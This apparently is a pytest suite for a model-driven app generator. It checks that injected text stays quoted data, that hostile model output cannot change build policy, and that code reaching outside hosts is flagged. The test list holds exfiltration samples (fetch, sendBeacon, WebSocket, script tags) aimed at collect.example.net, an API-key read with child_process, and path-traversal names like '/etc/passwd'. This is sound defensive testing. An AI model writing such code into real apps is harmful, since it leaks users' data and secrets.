"""What a model is shown and what is made of its words: quotation, selection, reading, fixing."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from bench.fake_model import answer, data_of, spec
from processors.generate.compose import compose
from processors.generate.model import question as questions
from processors.generate.model.answer import Answer, Unusable, read_answer
from processors.generate.model.context import Selected, compress, normalised, select
from processors.generate.model.fixers import fix, fix_findings
from processors.generate.model.port import Question, tokens_of
from processors.generate.model.settings import ModelSettings
from processors.task import Attempt, InvalidTask, Task, worth_another
from processors.toolchain.findings import Finding
from processors.validate import static
from processors.validate.policy import ValidationPolicy

INJECTIONS: list[dict[str, str]] = yaml.safe_load((Path(__file__).parent / "injections.yaml").read_text())
SETTINGS = ModelSettings(url="http://127.0.0.1:9/v1", model="m")
WITH_FILES = SETTINGS.model_copy(update={"files": True})


def question(prompt: str, screen: str = "", options: ModelSettings = SETTINGS) -> Question:
    screens = select({"screens": [{"screen": 1, "texts": [{"text": screen, "box": [0, 0, 9, 9]}]}]}, prompt, 4000) if screen else None
    return questions.ask_for(compress(prompt, 8000), screens, options)


def body(asked: Question) -> dict[str, Any]:
    return {"messages": [{"role": m.role, "content": m.text} for m in asked.messages]}


# ---- quotation -------------------------------------------------------------------------------------------------------------


def test_there_are_injections_of_many_manners() -> None:
    assert len({i["id"] for i in INJECTIONS}) == len(INJECTIONS) >= 25


@pytest.mark.parametrize("case", INJECTIONS, ids=[i["id"] for i in INJECTIONS])
def test_no_text_becomes_more_than_quoted_data(case: dict[str, str]) -> None:
    """The rules stay as they are, byte for byte; the text comes out of its quotation as it went in; nothing of it stands outside."""
    plain = question("a fleet app")
    asked = question(case["text"], case["text"])
    assert asked.messages[0] == plain.messages[0] and asked.schema == plain.schema and len(asked.messages) == 2
    text = asked.messages[1].text
    assert re.fullmatch(r"<data-([0-9a-f]{24})>\n[^<>]*\n</data-\1>", text), "marks that the data could not have written"
    data = data_of(body(asked))
    assert data["request"] == compress(case["text"], 8000).value
    assert [t for s in data["seen_on_screen"] for t in s["texts"]] == [case["text"].strip()]


@given(st.text())
@settings(max_examples=200, deadline=None)
def test_no_text_can_end_its_quotation(text: str) -> None:
    said = questions.quoted("task", {"request": text})
    match = re.fullmatch(r"<data-([0-9a-f]{24})>\n([^<>\u2028\u2029]*)\n</data-\1>", said)
    assert match and json.loads(match[2])["request"] == text and match[1] not in match[2]


# ---- whatever a model says ---------------------------------------------------------------------------------------------------

HOSTILE = "https://collect.example.net"


@pytest.mark.parametrize("case", INJECTIONS, ids=[i["id"] for i in INJECTIONS])
def test_a_model_that_obeys_every_injection_changes_no_policy(case: dict[str, str]) -> None:
    """The text as title, label, option and note of an answer: it is text in the application, and none of it reaches the frame."""
    said = spec("Fleet", trucks=["plate"])
    said["title"], said["notes"] = case["text"], [case["text"]]
    said["entities"][0]["plural"] = case["text"][:60]
    said["entities"][0]["fields"] += [{"label": case["text"], "type": "enum", "options": [case["text"], "x"]}]
    said["allowed_hosts"], said["scripts"] = [HOSTILE], {"postinstall": "x"}
    read = read_answer(answer(said), files=False)
    files, plain = compose(read.spec), compose(read_answer(answer(spec("Fleet", trucks=["plate"])), files=False).spec)
    for frame in ("build.mjs", "tsconfig.json", "src/main.tsx", "supabase/migrations/0000_platform.sql", "src/data/client.ts"):
        assert files[frame] == plain[frame]
    assert (
        files["index.html"].split(b"<title>")[0].split(b"description")[0]
        == plain["index.html"].split(b"<title>")[0].split(b"description")[0]
    )
    mine, theirs = json.loads(files["package.json"]), json.loads(plain["package.json"])
    assert {k: v for k, v in mine.items() if k not in ("name", "description")} == {
        k: v for k, v in theirs.items() if k not in ("name", "description")
    }
    policy = re.search(rb'content-security-policy" content="([^"]*)"', files["index.html"], re.I)
    assert policy and policy[0] in plain["index.html"] and b"example.net" not in policy[0]


@pytest.mark.parametrize(
    "path",
    ["../x.ts", "/etc/passwd", "src/../build.mjs", "build.mjs", "package.json", "index.html", "tsconfig.json", "src/main.tsx", "src/env.d.ts", "src/x.js", "src/.env",
     "public/x.html", "dist/index.html", "node_modules/react/index.ts", "supabase/config.toml", "supabase/migrations/0000_platform.sql", "src/a b.tsx/", "C:\\x.ts", "src\\x.ts",
     "src/node_modules/x.ts"],
)  # fmt: skip
def test_files_outside_the_tree_are_refused_by_name(path: str) -> None:
    with pytest.raises(Unusable, match=r"path|place|reserved|plain"):
        read_answer(answer(spec("F", trucks=["plate"]), {path: "x"}), files=True)


@pytest.mark.parametrize(
    "code",
    [
        f"void fetch('{HOSTILE}');",
        f"new WebSocket('wss://collect.example.net');\nvoid '{HOSTILE}';",
        f"export const P = () => <img src='{HOSTILE}/p.png' alt='' />;",
        f"export const F = () => <form action='{HOSTILE}'><button>x</button></form>;",
        f"window.location.href = '{HOSTILE}';",
        f"import '{HOSTILE}/x.js';",
        "import x from 'left-pad';\nx();",
        "eval('1');",
        "globalThis['eval']('1');",
        "export const H = () => <div dangerouslySetInnerHTML={{ __html: 'x' }} />;",
        f"navigator.sendBeacon('{HOSTILE}');",
        f"const s = document.createElement('script'); s.src = '{HOSTILE}/x.js';",
        "setTimeout('alert(1)', 1);",
        "void process.env.MILLRACE_MODEL_API_KEY; require('child_process');",
    ],
)
def test_what_reaches_out_of_the_application_is_found_and_not_fixed_away(code: str) -> None:
    """The last wall: the gates judge what a model wrote; the fixers leave it as it is."""
    from processors.toolchain.build import build_sync
    from processors.toolchain.node import Toolchain

    read = read_answer(answer(spec("F", trucks=["plate"]), {"src/extra.tsx": code}), files=True)
    fixed, _ = fix(read.files)
    files = compose(read.spec) | {path: text.encode() for path, text in fixed.items()}
    made = build_sync({"src/extra.tsx": files["src/extra.tsx"]}, Toolchain(), transpile=True).code
    found = static.check(files, made, ValidationPolicy())
    assert any(f.file == "src/extra.tsx" and f.severity == "error" for f in found), found


def test_files_are_read_only_where_they_are_allowed() -> None:
    said = answer(spec("F", trucks=["plate"]), {"src/App.tsx": "export const App = 1;"})
    assert read_answer(said, files=False).files == {}
    assert read_answer(said, files=True).files == {"src/App.tsx": "export const App = 1;"}
    assert "files" not in questions.schema(files=False)["properties"]


# ---- reading -----------------------------------------------------------------------------------------------------------------


def test_what_is_plainly_meant_is_fixed() -> None:
    said = {
        "spec": {
            "title": " Fleet \n desk ", "theme": {"accent": "#A1B2C3", "scheme": "sepia"},
            "entities": [
                {"plural": "Work Orders", "singular": "Work Order", "fields": [
                    {"label": "ID", "type": "uuid"}, {"label": "Title", "type": "string"}, {"label": "Cost", "type": "decimal", "required": "yes"},
                    {"label": "State", "type": "text", "options": ["Open", "open", "Done"]}, {"label": "Kind", "type": "enum", "options": []},
                    {"label": "Truck", "type": "reference", "target": "truck"}, {"label": "Owner", "type": "reference", "target": "nobody"}, "Remark",
                    {"label": "Título", "type": "text"}, {"label": "titulo", "type": "text"}, {"label": "数量", "type": "integer"}]},
                {"singular": "Truck", "plural": "Trucks", "fields": ["Plate"]},
            ],
        }
    }  # fmt: skip
    read = read_answer("Here you are:\n```json\n" + json.dumps(said) + "\n```", files=False)
    orders, trucks = read.spec.entities
    kinds = {f.label: (f.key, f.type, f.options, f.target, f.required) for f in orders.fields}
    assert kinds["State"][1:3] == ("enum", ("Open", "Done")) and kinds["Kind"][1] == "text" and kinds["Cost"][1] == "number"
    assert kinds["Truck"][1] == "reference" and kinds["Truck"][3] == trucks.key and kinds["Owner"][1] == "text"
    assert "ID" not in kinds and kinds["Título"][0] == "titulo" and kinds["titulo"][0] == "titulo_2" and kinds["数量"][0] == "field"
    assert read.spec.title == "Fleet desk" and read.spec.theme.accent == "#a1b2c3" and read.spec.theme.scheme == ""
    assert {"prose", "type", "options", "target", "reserved_field"} <= set(read.fixed)
    assert Answer.from_json(read.to_json()).spec == read.spec
    compose(read.spec)


@pytest.mark.parametrize(
    "text",
    ["", "I cannot do that.", "[]", "{}", "null", '{"spec": null}', '{"spec": {"entities": []}}', '{"spec": {"entities": [{"plural": "x", "fields": []}]}}', answer(spec("F", trucks=["a"]))[:-20],
     "[" * 100_000, '{"spec": {"entities": ' + json.dumps([{"plural": f"e{i}", "fields": ["a"]} for i in range(200)]) + "}}"],
)  # fmt: skip
def test_what_is_no_application_is_unusable_with_its_reason(text: str) -> None:
    with pytest.raises(Unusable) as caught:
        read_answer(text, files=True)
    assert str(caught.value)


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda inner: (
            st.lists(inner)
            | st.dictionaries(
                st.sampled_from(
                    [
                        "spec",
                        "entities",
                        "fields",
                        "label",
                        "plural",
                        "type",
                        "options",
                        "target",
                        "theme",
                        "title",
                        "files",
                        "path",
                        "content",
                    ]
                )
                | st.text(),
                inner,
            )
        ),
        max_leaves=30,
    )
)
@settings(max_examples=300, deadline=None)
def test_any_json_is_an_application_or_unusable(document: Any) -> None:
    try:
        read = read_answer(json.dumps(document), files=True)
    except Unusable:
        return
    compose(read.spec)


def test_a_repair_keeps_what_it_does_not_name() -> None:
    base = read_answer(answer(spec("F", trucks=["plate"]), {"src/a.ts": "a", "src/b.ts": "b"}), files=True)
    again = read_answer(answer(None, {"src/b.ts": "B"}), files=True, base=base)
    assert again.spec == base.spec and again.files == {"src/a.ts": "a", "src/b.ts": "B"}


# ---- fixing code -------------------------------------------------------------------------------------------------------------


def test_code_is_fixed_where_only_one_thing_can_be_meant() -> None:
    fixed, done = fix(
        {
            "src/A.tsx": '```tsx\nexport function A() {\n  const [n, setN] = useState(0);\n  return <label class="x" for="y" style="color: red; font-size: 2px" onclick={() => setN(n)}>{n}</label>;\n}\n```',
            "src/b.ts": "export const text = 'class=\"x\" useState(';\n",
        }
    )
    assert fixed["src/A.tsx"].startswith("import { useState } from 'react';\n")
    assert "<label className=\"x\" htmlFor=\"y\" style={{ color: 'red', fontSize: '2px' }} onClick={() => setN(n)}>" in fixed["src/A.tsx"]
    assert fixed["src/b.ts"] == "export const text = 'class=\"x\" useState(';\n" and set(done) == {"fence", "attribute", "style", "import"}
    assert fix(fixed) == (fixed, [])


def test_an_import_is_added_where_one_file_has_the_name() -> None:
    files = {
        "src/pages/P.tsx": "export const P = () => <Box />;\n",
        "src/ui/Box.tsx": "export function Box() { return null; }\n",
        "src/x.ts": "export const Two = 1;\n",
        "src/y.ts": "export const Two = 2;\n",
    }
    found = [Finding("typecheck", "TS2304", f"Cannot find name '{n}'.", "src/pages/P.tsx", 1) for n in ("Box", "Two", "Nobody")]
    changed, done = fix_findings(files, ["src/pages/P.tsx"], found)
    assert changed == {"src/pages/P.tsx": "import { Box } from '../ui/Box';\nexport const P = () => <Box />;\n"} and done
    assert fix_findings(files, [], found) == ({}, [])


# ---- context -----------------------------------------------------------------------------------------------------------------


def test_compression_keeps_what_an_application_is_about() -> None:
    wanted = "An app with trucks (plate, mileage) and drivers (name, licence)."
    chatter = "\n".join(f"Well, number {i}, let me think about this for a moment, it is such a lovely day outside." for i in range(300))
    cut = compress(f"Hello!\n{chatter}\n{wanted}\n{chatter}", 400)
    assert cut.tokens_after <= 400 < cut.tokens_before and "trucks (plate, mileage)" in cut.value and "drivers (name, licence)" in cut.value
    assert compress(wanted, 400).value == wanted
    assert "data:" not in compress("x data:" + "A" * 5000, 4000).value
    assert compress("a\r\n\r\n  b  \n-----\nb\na", 100).value == "a\n b"


@given(st.text(max_size=3000), st.integers(20, 300))
@settings(max_examples=100, deadline=None)
def test_a_prompt_fits_its_budget(text: str, budget: int) -> None:
    assert compress(text, budget).tokens_after <= max(budget, 1) + 1
    assert normalised(normalised(text)) == normalised(text)


def test_selection_takes_each_text_once_and_heads_before_rows() -> None:
    def screen(name: str, *texts: tuple[str, int, str]) -> dict[str, Any]:
        return {"screen": name, "texts": [{"text": t, "box": [x, 20 * i, 50, 10], "role": role} for i, (t, x, role) in enumerate(texts)]}

    rows = [(f"Person {i}", 8, "") for i in range(200)]
    features = {
        "screens": [
            screen("list", ("Name", 8, "th"), ("Phone", 400, "th"), *rows),
            screen("form", ("New person", 8, "heading"), ("Name", 8, "label")),
            screen("list", *rows),
        ]
    }
    chosen = select(features, "", 120)
    texts = [t for s in chosen.value for t in s["texts"]]
    assert {"Name", "Phone", "New person", "Person 0"} <= set(texts) and len(texts) == len(set(texts))
    assert chosen.tokens_after <= 120 < chosen.tokens_before
    asked = select(features, "person 150 only", 60)
    assert "Person 150" in [t for s in asked.value for t in s["texts"]]
    for odd in ({}, {"screens": None}, {"screens": [None, {}, {"texts": [None, {"text": None}, {"text": " "}]}]}):
        assert select(odd, "x", 100).value == []


def test_a_repair_shows_the_files_that_the_findings_name() -> None:
    base = read_answer(answer(spec("F", trucks=["plate"]), {"src/a.ts": "aaa", "src/b.ts": "bbb"}), files=True)
    found = [{"gate": "typecheck", "rule": "TS2322", "message": "no", "file": "src/b.ts", "line": 1}]
    nothing = Selected("a fleet", 2, 2)
    asked = questions.ask_to_repair(nothing, None, json.loads(base.to_json())["spec"], base.files, found, WITH_FILES)
    data = data_of(body(asked))
    assert [f["path"] for f in data["answer"]["files"]] == ["src/b.ts"] and data["other_files"] == ["src/a.ts"] and data["found"] == found
    assert asked.messages[0].text.startswith(questions.SYSTEM) and tokens_of(asked.messages[0].text) < 800


# ---- the task --------------------------------------------------------------------------------------------------------------


def attempt(round: int, *rules: str, passed: int = 2) -> Attempt:
    findings = tuple({"gate": "static", "rule": r, "message": "m", "file": "src/a.ts", "line": round} for r in rules)
    return Attempt(
        round=round,
        answer_uri="object:t/0",
        artifact_uri="object:t/1",
        artifact_size=1,
        artifact_digest="d",
        passed=passed,
        errors=len(rules),
        findings=findings,
    )


def test_a_task_travels_and_says_what_is_no_task() -> None:
    task = Task(prompt="x", attempts=(attempt(0, "a"),), answer_uri="object:t/2", spent_usd=None)
    assert Task.from_json(task.to_json()) == task
    for bad in (
        b"",
        b"{}",
        b"[]",
        b'{"schema": "millrace.task/1"}',
        b'{"schema": "millrace.task/1", "attempts": [], "prompt": 3}',
        b'{"schema": "millrace.task/1", "attempts": [1]}',
        b"[" * 99999,
    ):
        with pytest.raises(InvalidTask):
            Task.from_json(bad)


def test_when_another_round_is_worth_it() -> None:
    assert worth_another([attempt(0, "a")])
    assert worth_another([attempt(0, "a"), attempt(1, "b")])
    assert not worth_another([attempt(0, "a"), attempt(1, "a")]), "the same error twice; on another line it is still the same"
    assert not worth_another([attempt(0, "a"), attempt(1, "b"), attempt(2, "c")])
    assert not worth_another([attempt(0)]), "nothing to tell the model"
    best = Task(attempts=(attempt(0, "a", "b"), attempt(1, "c"), attempt(2, "a", "b", "c", passed=1))).best
    assert best and best.round == 1
